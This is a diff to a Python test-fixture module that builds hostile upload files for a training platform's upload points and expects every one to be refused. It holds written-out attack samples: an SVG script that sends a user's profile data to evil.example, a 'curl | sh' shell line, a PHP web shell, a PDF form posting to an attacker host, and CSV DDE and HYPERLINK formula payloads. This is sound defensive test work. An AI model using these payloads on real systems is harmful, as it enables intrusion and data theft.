@@ -7,14 +7,15 @@ send them through every upload point and expect a refusal with nothing stored.
 
 from __future__ import annotations
 
+import csv
 import functools
 import html
 import io
 import struct
 import zipfile
 import zlib
-from collections.abc import Callable
-from dataclasses import dataclass
+from collections.abc import Callable, Mapping
+from dataclasses import dataclass, field
 from pathlib import Path
 from typing import Any
 
@@ -223,6 +224,208 @@ def xlsx_zip_bomb(rows: list[list[str]], inflated_mb: int = 40) -> bytes:
     return _rewrite(xlsx(rows), {"xl/worksheets/sheet2.xml": padding})
 
 
+def pdf_page_additional_action() -> bytes:
+    """JavaScript run when page one opens, through the page's own /AA dictionary."""
+    return pdf(b"", b"<< /Type /Page /Parent 2 0 R /AA << /O << /S /JavaScript /JS (1) >> >> >>")
+
+
+def pdf_remote_go_to() -> bytes:
+    return pdf(b" /OpenAction << /S /GoToR /F (\\\\\\\\attacker\\\\share\\\\a.pdf) >>")
+
+
+def pdf_xfa_form() -> bytes:
+    return pdf(b" /AcroForm << /Fields [] /XFA 4 0 R >>", stream(b"<xdp:xdp/>"))
+
+
+def pdf_submit_form() -> bytes:
+    return pdf(b" /OpenAction << /S /SubmitForm /F (https://evil.example/collect) >>")
+
+
+def pdf_import_data() -> bytes:
+    return pdf(b" /OpenAction << /S /ImportData /F (data.fdf) >>")
+
+
+def pdf_rich_media() -> bytes:
+    return pdf(b"", b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 10 10] >>")
+
+
+def pdf_file_attachment_annotation() -> bytes:
+    return pdf(b"", b"<< /Type /Annot /Subtype /FileAttachment /FS (a.exe) >>")
+
+
+def pdf_javascript_uri() -> bytes:
+    """A link whose target is a script rather than a web page."""
+    return pdf(b" /OpenAction << /S /URI /URI (javascript:app.alert\\(1\\)) >>")
+
+
+def pdf_encrypted() -> bytes:
+    return pdf().replace(b"/Root 1 0 R", b"/Root 1 0 R /Encrypt 9 0 R")
+
+
+def pdf_html_polyglot() -> bytes:
+    """A PDF whose first kilobyte is also a web page with a script."""
+    return pdf(b"", stream(b"<html><script>alert(document.cookie)</script></html>"))
+
+
+def pdf_undecodable_object_stream() -> bytes:
+    return pdf(b"", stream(b"4 0 <</JS 1>>", b" /N 1 /First 4 /Filter /ASCII85Decode"))
+
+
+# --- More images and disguised markup ------------------------------------------------------------
+def jpeg(size: tuple[int, int] = (4, 4)) -> bytes:
+    out = io.BytesIO()
+    Image.new("RGB", size, "navy").save(out, "JPEG")
+    return out.getvalue()
+
+
+def pixel_flood_jpeg() -> bytes:
+    """A small JPEG whose frame header claims 60000 by 60000 pixels."""
+    data = bytearray(jpeg())
+    at = data.index(b"\xff\xc0")
+    data[at + 5 : at + 9] = struct.pack(">HH", 60_000, 60_000)
+    return bytes(data)
+
+
+def jpeg_zip_polyglot() -> bytes:
+    return jpeg() + small_zip()
+
+
+def png_then_html() -> bytes:
+    return b"\x89PNG\r\n\x1a\n<html><body><script>alert(document.domain)</script></body></html>"
+
+
+def jpeg_with_script_comment() -> bytes:
+    comment = b"<script>alert(document.cookie)</script>"
+    data = jpeg()
+    return data[:2] + b"\xff\xfe" + struct.pack(">H", len(comment) + 2) + comment + data[2:]
+
+
+def png_truncated() -> bytes:
+    return png((64, 64))[:60]
+
+
+def image_as(format: str) -> Callable[[], bytes]:
+    """A real image in a format no upload point takes (GIF, BMP, TIFF, WebP, ICO)."""
+
+    def build() -> bytes:
+        out = io.BytesIO()
+        Image.new("RGB", (8, 8), "red").save(out, format)
+        return out.getvalue()
+
+    build.__name__ = f"image_{format.lower()}"
+    return build
+
+
+def gif_jar_polyglot() -> bytes:
+    """A "GIFAR": a GIF that is also a Java archive."""
+    return image_as("GIF")() + small_zip()
+
+
+SVG_SCRIPT = (
+    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
+    b"<script>fetch('/api/v1/migrants/me/').then(r=>r.text()).then(t=>navigator.sendBeacon("
+    b"'https://evil.example',t))</script></svg>"
+)
+HTML_PAGE = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
+XML_STYLESHEET = b'<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="evil.xsl"?><a/>'
+IFRAME = b"<iframe src=https://evil.example></iframe>"
+PHP_SHELL = b"<?php system($_GET['c']); ?>"
+SHELL_SCRIPT = b"#!/bin/sh\ncurl https://evil.example/x | sh\n"
+WINDOWS_PROGRAM = b"MZ\x90\x00\x03" + b"\x00" * 59 + b"This program cannot be run in DOS mode."
+ELF_PROGRAM = b"\x7fELF\x02\x01\x01" + b"\x00" * 9 + b"\x02\x00\x3e\x00" + b"\x00" * 100
+OLE_DOCUMENT = VBA_PROJECT  # a legacy .doc/.xls: an OLE compound file, macros possible
+UTF16_TABLE = "given_names,family_name\r\nAmina,Haddad\r\n".encode("utf-16")
+NUL_TABLE = b"given_names,family_name\r\nAmina\x00,Haddad\r\n"
+
+
+# --- More office files ----------------------------------------------------------------------
+def _docx_with(extra: dict[str, bytes], types: bytes = b"") -> bytes:
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w") as archive:
+        archive.writestr(
+            _member("[Content_Types].xml"),
+            b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
+            b'content-types"><Default Extension="xml" ContentType="application/xml"/>'
+            + types
+            + b"</Types>",
+        )
+        archive.writestr(_member("word/document.xml"), "<w:document/>")
+        for name, data in extra.items():
+            archive.writestr(_member(name), data)
+    return out.getvalue()
+
+
+def docx_with_activex() -> bytes:
+    return _docx_with({"word/activeX/activeX1.xml": b"<ax:ocx/>"})
+
+
+def docx_with_ole_object() -> bytes:
+    return _docx_with({"word/embeddings/oleObject1.bin": VBA_PROJECT})
+
+
+def docx_with_embedded_program() -> bytes:
+    return _docx_with({"word/media/image1.png": WINDOWS_PROGRAM})
+
+
+def docx_zip_bomb(inflated_mb: int = 40) -> bytes:
+    return _docx_with({"word/padding.xml": b" " * (inflated_mb * 1024 * 1024)})
+
+
+def docx_with_eicar() -> bytes:
+    """The test virus stored (not compressed) as one part of a document."""
+    out = io.BytesIO()
+    with zipfile.ZipFile(io.BytesIO(_docx_with({})), "r") as source, zipfile.ZipFile(out, "w") as z:
+        for info in source.infolist():
+            z.writestr(info, source.read(info.filename))
+        member = zipfile.ZipInfo("word/eicar.com", date_time=(2026, 1, 1, 0, 0, 0))
+        z.writestr(member, EICAR)  # ZIP_STORED: the bytes appear as they are
+    return out.getvalue()
+
+
+def odt_with_basic_macros() -> bytes:
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w") as archive:
+        archive.writestr(_member("mimetype"), "application/vnd.oasis.opendocument.text")
+        archive.writestr(_member("content.xml"), "<office:document-content/>")
+        archive.writestr(_member("Basic/Standard/Module1.xml"), "<script:module/>")
+    return out.getvalue()
+
+
+def zip_of_many_parts(parts: int = 2_100) -> bytes:
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w") as archive:
+        archive.writestr("[Content_Types].xml", "<Types/>")
+        archive.writestr("word/document.xml", "<document/>")
+        for number in range(parts):
+            archive.writestr(f"word/media/p{number}.xml", "")
+    return out.getvalue()
+
+
+@functools.cache
+def oversized(size: int = 21 * 1024 * 1024) -> bytes:
+    """A plain PDF larger than every upload limit (20 MB)."""
+    return b"%PDF-1.7\n" + b"0" * size
+
+
+# --- Spreadsheet formulas (CSV injection) ------------------------------------------------------
+def participant_table(column: str, value: str, *, xlsx_file: bool = False) -> Callable[[], bytes]:
+    """A participant file in the template's shape whose ``column`` in row 2 holds ``value``."""
+    from training.imports.spec import COLUMNS, EXAMPLE_ROW
+
+    def build() -> bytes:
+        row = [
+            value if name == column else cell
+            for name, cell in zip(COLUMNS, EXAMPLE_ROW, strict=True)
+        ]
+        if xlsx_file:
+            return xlsx([list(COLUMNS), row])
+        out = io.StringIO()
+        csv.writer(out, lineterminator="\r\n").writerows([COLUMNS, row])
+        return out.getvalue().encode()
+
+    return build
+
+
 @dataclass(frozen=True)
 class Hostile:
     """One hostile file an upload point must refuse: the name its users would give it, how to
@@ -231,9 +434,18 @@ class Hostile:
     name: str
     build: Callable[[], bytes]
     refusal: str
+    # What the file is, for the reader of a failing test; and the refusal where an upload point
+    # taking other kinds of file ("scans", "documents", "participants") answers otherwise.
+    label: str = ""
+    refusal_at: Mapping[str, str] = field(default_factory=dict)
+    # The kinds of upload point that must refuse it (all, unless said).
+    refused_at: frozenset[str] = frozenset({"scans", "documents", "participants"})
 
     def upload(self) -> SimpleUploadedFile:
         return SimpleUploadedFile(self.name, self.build())
+
+    def refusal_for(self, kind: str) -> str:
+        return self.refusal_at.get(kind, self.refusal)
 
 
 def case(name: str, build: Callable[[], bytes], refusal: str, id: str) -> Any:
@@ -284,3 +496,271 @@ def assert_api_refuses(response: Any, message: str) -> None:
 def files_under(root: Path) -> list[Path]:
     """The files stored below ``root`` (the test's media folder): none after a refusal."""
     return [p for p in root.rglob("*") if p.is_file()]
+
+
+# --- The corpus: every hostile file, tried at every upload point --------------------------------
+# The reasons a refusal names. A file of a type the point does not take is refused for its type
+# (TYPE), whatever else is wrong with it.
+TYPE = "Its content was checked, not its name."
+SCRIPT = "active content (JavaScript)"
+ACTIVE = "active content"
+HIDDEN_ZIP = "ZIP archive hidden"
+VIRUS = "The virus check found"
+PIXELS = "megapixels"
+BOMB = "unpacks to"
+EMPTY = "file is empty"
+TOO_LARGE = "the limit is"
+NOT_A_TABLE = {"participants": TYPE}  # binary files are neither CSV nor XLSX
+DOCUMENTS_ONLY = {"scans": TYPE, "participants": TYPE}
+WORKBOOK = {"scans": TYPE}  # an XLSX: refused for its type where only scans are taken
+TABLES_ONLY = {"scans": TYPE, "documents": TYPE}  # a CSV: taken by participant imports only
+
+
+def formula(column: str) -> str:
+    """The refusal of a participant file with a formula in row 2 (line 2) of ``column``."""
+    return f"Line 2, column {column}"
+
+
+def _h(label: str, name: str, build: Callable[[], bytes], refusal: str, **options: Any) -> Hostile:
+    return Hostile(name, build, refusal, label=label, **options)
+
+
+def _fixed(data: bytes, label: str) -> Callable[[], bytes]:
+    def build() -> bytes:
+        return data
+
+    build.__name__ = label
+    return build
+
+
+ROWS = [["given_names", "family_name"], ["Amina", "Haddad"]]
+
+CORPUS: list[Hostile] = [
+    # Active PDFs
+    _h("pdf-javascript", "cv.pdf", pdf_javascript, SCRIPT, refusal_at=NOT_A_TABLE),
+    _h(
+        "pdf-javascript-hex-escaped",
+        "cv.pdf",
+        pdf_javascript_hex_escaped,
+        SCRIPT,
+        refusal_at=NOT_A_TABLE,
+    ),
+    _h(
+        "pdf-javascript-in-object-stream",
+        "cv.pdf",
+        pdf_javascript_in_object_stream,
+        SCRIPT,
+        refusal_at=NOT_A_TABLE,
+    ),
+    _h(
+        "pdf-page-open-action", "cv.pdf", pdf_page_additional_action, SCRIPT, refusal_at=NOT_A_TABLE
+    ),
+    _h("pdf-javascript-link", "cv.pdf", pdf_javascript_uri, SCRIPT, refusal_at=NOT_A_TABLE),
+    _h(
+        "pdf-launch",
+        "cv.pdf",
+        pdf_launch,
+        "an action that starts a program",
+        refusal_at=NOT_A_TABLE,
+    ),
+    _h(
+        "pdf-remote-file",
+        "cv.pdf",
+        pdf_remote_go_to,
+        "a link that opens another file",
+        refusal_at=NOT_A_TABLE,
+    ),
+    _h(
+        "pdf-embedded-file", "cv.pdf", pdf_embedded_file, "an embedded file", refusal_at=NOT_A_TABLE
+    ),
+    _h(
+        "pdf-file-attachment",
+        "cv.pdf",
+        pdf_file_attachment_annotation,
+        "an embedded file",
+        refusal_at=NOT_A_TABLE,
+    ),
+    _h("pdf-rich-media", "cv.pdf", pdf_rich_media, "rich media", refusal_at=NOT_A_TABLE),
+    _h("pdf-xfa-form", "cv.pdf", pdf_xfa_form, "an XFA form", refusal_at=NOT_A_TABLE),
+    _h(
+        "pdf-submit-form",
+        "cv.pdf",
+        pdf_submit_form,
+        "a form that sends data",
+        refusal_at=NOT_A_TABLE,
+    ),
+    _h(
+        "pdf-import-data",
+        "cv.pdf",
+        pdf_import_data,
+        "an action that imports data",
+        refusal_at=NOT_A_TABLE,
+    ),
+    _h("pdf-encrypted", "cv.pdf", pdf_encrypted, "encrypted", refusal_at=NOT_A_TABLE),
+    _h(
+        "pdf-unreadable-object-stream",
+        "cv.pdf",
+        pdf_undecodable_object_stream,
+        "could not be checked",
+        refusal_at=NOT_A_TABLE,
+    ),
+    _h("pdf-eicar", "cv.pdf", pdf_with_eicar, VIRUS, refusal_at=NOT_A_TABLE),
+    # Polyglots
+    _h("pdf-zip-polyglot", "cv.pdf", pdf_zip_polyglot, HIDDEN_ZIP, refusal_at=NOT_A_TABLE),
+    _h("pdf-html-polyglot", "cv.pdf", pdf_html_polyglot, TYPE),
+    _h("png-zip-polyglot", "diploma.png", png_zip_polyglot, HIDDEN_ZIP, refusal_at=NOT_A_TABLE),
+    _h("jpeg-zip-polyglot", "diploma.jpg", jpeg_zip_polyglot, HIDDEN_ZIP, refusal_at=NOT_A_TABLE),
+    _h("gif-jar-polyglot", "diploma.gif", gif_jar_polyglot, TYPE),
+    # Markup and programs disguised as images and documents
+    _h("svg-with-script", "diploma.svg", _fixed(SVG_SCRIPT, "svg"), TYPE),
+    _h("svg-named-png", "diploma.png", _fixed(SVG_SCRIPT, "svg"), TYPE),
+    _h("html-named-jpeg", "diploma.jpg", _fixed(HTML_PAGE, "html"), TYPE),
+    _h("html-named-pdf", "cv.pdf", _fixed(HTML_PAGE, "html"), TYPE),
+    _h("html-named-csv", "people.csv", _fixed(HTML_PAGE, "html"), TYPE),
+    _h("xml-stylesheet", "diploma.xml", _fixed(XML_STYLESHEET, "xsl"), TYPE),
+    _h("iframe-named-png", "diploma.png", _fixed(IFRAME, "iframe"), TYPE),
+    _h("png-header-then-html", "diploma.png", png_then_html, TYPE),
+    _h("jpeg-with-script-comment", "diploma.jpg", jpeg_with_script_comment, TYPE),
+    _h("php-named-jpeg", "diploma.jpg", _fixed(PHP_SHELL, "php"), TYPE),
+    _h("shell-script", "people.csv", _fixed(SHELL_SCRIPT, "sh"), TYPE),
+    _h("windows-program-named-pdf", "cv.pdf", _fixed(WINDOWS_PROGRAM, "exe"), TYPE),
+    _h("linux-program", "cv.pdf", _fixed(ELF_PROGRAM, "elf"), TYPE),
+    _h("plain-zip-named-docx", "annex.docx", small_zip, TYPE),
+    _h("legacy-ole-document", "annex.doc", _fixed(OLE_DOCUMENT, "ole"), TYPE),
+    # Images: pixel floods, broken and unsupported formats
+    _h("pixel-flood-png", "diploma.png", pixel_flood_png, PIXELS, refusal_at=NOT_A_TABLE),
+    _h("pixel-flood-jpeg", "diploma.jpg", pixel_flood_jpeg, PIXELS, refusal_at=NOT_A_TABLE),
+    _h("png-truncated", "diploma.png", png_truncated, "damaged", refusal_at=NOT_A_TABLE),
+    *(
+        _h(f"image-{kind.lower()}", f"diploma.{kind.lower()}", image_as(kind), TYPE)
+        for kind in ("GIF", "BMP", "TIFF", "WEBP", "ICO")
+    ),
+    # Office files: macros, controls, embedded programs, zip bombs
+    _h("docx-macros", "annex.docx", docx_with_macros, "macros", refusal_at=DOCUMENTS_ONLY),
+    _h("docx-activex", "annex.docx", docx_with_activex, "ActiveX", refusal_at=DOCUMENTS_ONLY),
+    _h(
+        "docx-ole-object",
+        "annex.docx",
+        docx_with_ole_object,
+        "embedded programs",
+        refusal_at=DOCUMENTS_ONLY,
+    ),
+    _h(
+        "docx-embedded-program",
+        "annex.docx",
+        docx_with_embedded_program,
+        "embedded programs",
+        refusal_at=DOCUMENTS_ONLY,
+    ),
+    _h(
+        "odt-basic-macros",
+        "annex.odt",
+        odt_with_basic_macros,
+        "macros or scripts",
+        refusal_at=DOCUMENTS_ONLY,
+    ),
+    _h("xlsx-macros", "people.xlsx", lambda: xlsx_with_macros(ROWS), "macros", refusal_at=WORKBOOK),
+    _h("docx-zip-bomb", "annex.docx", docx_zip_bomb, BOMB),
+    _h("xlsx-zip-bomb", "people.xlsx", lambda: xlsx_zip_bomb(ROWS), BOMB),
+    _h("zip-of-many-parts", "annex.docx", zip_of_many_parts, "too many parts"),
+    _h("docx-eicar", "annex.docx", docx_with_eicar, VIRUS, refusal_at=DOCUMENTS_ONLY),
+    # Empty, oversized, EICAR, text that is not a table
+    _h("empty", "cv.pdf", _fixed(b"", "empty"), EMPTY),
+    _h("oversized", "cv.pdf", oversized, TOO_LARGE),
+    _h("eicar", "eicar.com", _fixed(EICAR, "eicar"), VIRUS, refusal_at=TABLES_ONLY),
+    _h("eicar-named-pdf", "cv.pdf", _fixed(EICAR, "eicar"), VIRUS, refusal_at=TABLES_ONLY),
+    _h("utf16-table", "people.csv", _fixed(UTF16_TABLE, "utf16"), TYPE),
+    _h("table-with-nul", "people.csv", _fixed(NUL_TABLE, "nul"), TYPE),
+    # Path and Unicode tricks in names, on hostile content
+    _h(
+        "name-path-traversal",
+        "../../../../etc/cron.d/cv.pdf",
+        pdf_javascript,
+        SCRIPT,
+        refusal_at=NOT_A_TABLE,
+    ),
+    _h(
+        "name-windows-path",
+        "..\\..\\Windows\\System32\\diploma.png",
+        pixel_flood_png,
+        PIXELS,
+        refusal_at=NOT_A_TABLE,
+    ),
+    _h("name-right-to-left-override", "invoice\u202efdp.exe", _fixed(WINDOWS_PROGRAM, "exe"), TYPE),
+    _h("name-nul-byte", "cv.pdf\x00.exe", _fixed(WINDOWS_PROGRAM, "exe"), TYPE),
+    _h(
+        "name-control-characters",
+        "cv\r\n\t.pdf",
+        pdf_launch,
+        "an action that starts a program",
+        refusal_at=NOT_A_TABLE,
+    ),
+    _h(
+        "name-very-long",
+        "a" * 1_000 + ".pdf",
+        pdf_embedded_file,
+        "an embedded file",
+        refusal_at=NOT_A_TABLE,
+    ),
+    _h("name-reserved-device", "CON.pdf", pdf_zip_polyglot, HIDDEN_ZIP, refusal_at=NOT_A_TABLE),
+    _h("name-zero-width-dotfile", "\u200b.htaccess", _fixed(HTML_PAGE, "html"), TYPE),
+    _h(
+        "name-decomposed-unicode",
+        "Dipl\u006f\u0302me \U0001f393.png",
+        png_zip_polyglot,
+        HIDDEN_ZIP,
+        refusal_at=NOT_A_TABLE,
+    ),
+    # Formula injection in participant files (refused for their type where no table is taken)
+    _h(
+        "csv-formula-hyperlink",
+        "people.csv",
+        participant_table("given_names", '=HYPERLINK("http://evil.example?x="&B2,"Open")'),
+        formula("given_names"),
+        refusal_at=TABLES_ONLY,
+    ),
+    _h(
+        "csv-formula-dde-plus",
+        "people.csv",
+        participant_table("family_name", "+cmd|' /C calc'!A0"),
+        formula("family_name"),
+        refusal_at=TABLES_ONLY,
+    ),
+    _h(
+        "csv-formula-dde-minus",
+        "people.csv",
+        participant_table("participant_ref", "-2+3+cmd|' /C calc'!A0"),
+        formula("participant_ref"),
+        refusal_at=TABLES_ONLY,
+    ),
+    _h(
+        "csv-formula-at-sum",
+        "people.csv",
+        participant_table("email", "@SUM(1+1)*cmd|' /C calc'!A0"),
+        formula("email"),
+        refusal_at=TABLES_ONLY,
+    ),
+    _h(
+        "csv-formula-after-tab",
+        "people.csv",
+        participant_table("phone", "\t=1+2"),
+        formula("phone"),
+        refusal_at=TABLES_ONLY,
+    ),
+    _h(
+        "csv-formula-phone-lookalike",
+        "people.csv",
+        participant_table("phone", "+32 470 12 34 56+cmd|' /C calc'!A0"),
+        formula("phone"),
+        refusal_at=TABLES_ONLY,
+    ),
+    # A workbook is a fine annex to a partnership, formulas and all: refused as participants.
+    _h(
+        "xlsx-formula",
+        "people.xlsx",
+        participant_table("given_names", '=HYPERLINK("http://evil.example","x")', xlsx_file=True),
+        formula("given_names"),
+        refusal_at=WORKBOOK,
+        refused_at=frozenset({"scans", "participants"}),
+    ),
+]
